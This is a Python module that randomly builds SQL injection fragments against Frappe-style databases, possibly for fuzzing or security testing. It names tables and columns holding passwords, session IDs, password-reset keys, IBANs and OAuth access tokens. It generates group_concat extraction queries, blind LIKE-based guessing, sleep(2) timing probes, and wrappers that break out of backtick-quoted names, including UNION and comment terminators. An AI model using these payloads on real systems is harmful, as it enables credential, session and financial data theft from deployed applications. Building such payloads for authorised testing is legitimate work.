"""Pieces of SQL as they get into a query wherever a name is believed."""

from __future__ import annotations

import random

# What stands where, for whoever knows the base's tables; any table with a secret is tried as well.
READS_OF = {
    "tabSessions": "sid", "__Auth": "password", "tabUser": "reset_password_key",
    "tabEmployee": "iban", "tabFile": "file_name", "__UserSettings": "data",
    "tabSingles": "value", "tabAccess Log": "filters", "tabComment": "content",
    "tabOAuth Bearer Token": "access_token", "tabDefaultValue": "defvalue",
}  # fmt: skip
READING = ("(select group_concat({c}) from `{t}`)", "(select max({c}) from `{t}`)")
GUESSING = (
    "(select count(*) from `{t}` where {c} like '{g}%')",
    "if((select count(*) from `{t}` where {c} like '{g}%'), 1, 0)",
    "(select max({c}) like '{g}%' from `{t}` where {c} like 'cn%')",
)
# By what stands around the name: nothing, quotes, or something that is thought of as a whole.
ROUND_IT = (
    ("{i}", "{i} as x", "sum({i})", "max({i})"),
    ("name` , {i} as `x", "name`, {i} as x, `name"),
    ("name, {i}", "count(*) as n, {i} as x", "if(1, {i}, 1) as x", "1) + ({i}", "1=1 or {i}",
     "`name` from tabUser union {i} -- ", "ascii(substr({i}, 1, 1))"),
)  # fmt: skip
SLEEPING = ("sleep(2)", "name` = 1 or sleep(2) or `name", "(select sleep(2))", "1=1 or sleep(2)")
ROUND_COLUMN = (
    "{c} as x", "max({c})", "count({c})", "count(distinct {c})", "ifnull({c}, 1)", "concat({c}, 1)",
    "count(*) as n, {c}", "cast({c} as char)", "group_concat({c})", "{c} as name", "sum({c})",
)  # fmt: skip


def table_of(doctype: str) -> str:
    """Return the table of a document type; what is none is a table of its own."""
    return doctype if doctype.startswith("__") else f"tab{doctype}"


def piece(
    chance: random.Random, doctype: str, column: str, guess: str, is_whole: bool = False
) -> str:
    """Return a piece that reads a table, guesses at a value of one, or sleeps.

    is_whole: for a place that takes an expression and answers with a number, so that a guess tells
    more than a value would.
    """
    form = chance.random()
    if form < 0.04:
        return chance.choice(SLEEPING)
    if form < (0.75 if is_whole else 0.45):
        inner = chance.choice(GUESSING).format(t=table_of(doctype), c=column, g=guess)
    elif form < (0.85 if is_whole else 0.7):
        inner = chance.choice(READING).format(t=table_of(doctype), c=column)
    else:
        table = chance.choice(sorted(READS_OF))
        inner = chance.choice(READING).format(t=table, c=READS_OF[table])
    if is_whole:
        return inner
    [around] = chance.choices(ROUND_IT, (4, 4, 2))
    return chance.choice(around).format(i=inner)


def round_column(chance: random.Random, column: str) -> str:
    """Return a column inside of something."""
    return chance.choice(ROUND_COLUMN).format(c=column)
